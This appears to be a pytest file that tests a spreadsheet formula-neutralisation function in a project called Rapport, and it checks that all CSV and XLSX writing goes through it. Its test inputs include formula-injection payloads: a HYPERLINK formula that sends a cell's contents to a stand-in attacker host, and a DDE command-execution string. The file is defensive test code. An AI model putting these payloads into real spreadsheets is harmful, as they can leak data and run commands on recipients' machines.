"""Formula neutralisation: the rule, and that every file Rapport writes goes through it."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from rapport.core.spreadsheets import neutralise

PACKAGE = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?x="&A2;"click")',
        "+A1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "\t=1",
        "\r=1",
        "+44 20 7946 0958 ext 12",
        "+",
    ],
)
def test_formulas_get_a_leading_apostrophe(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["+44 20 7946 0958", "+1 (555) 010-4477", "-12.5", "ada", "", "a=b", 12, None]
)
def test_values_are_kept(value):
    assert neutralise(value) == value


def test_every_csv_and_xlsx_writer_is_the_neutralising_one():
    """A new export or report that calls csv.writer or openpyxl's Workbook directly would
    skip the neutralisation; it must use rapport.core.spreadsheets instead."""
    raw = re.compile(r"csv\.(writer|DictWriter)\(|\bWorkbook\(")
    offenders = [
        str(path.relative_to(PACKAGE))
        for path in PACKAGE.rglob("*.py")
        if "tests" not in path.parts
        and path.name != "spreadsheets.py"
        and raw.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
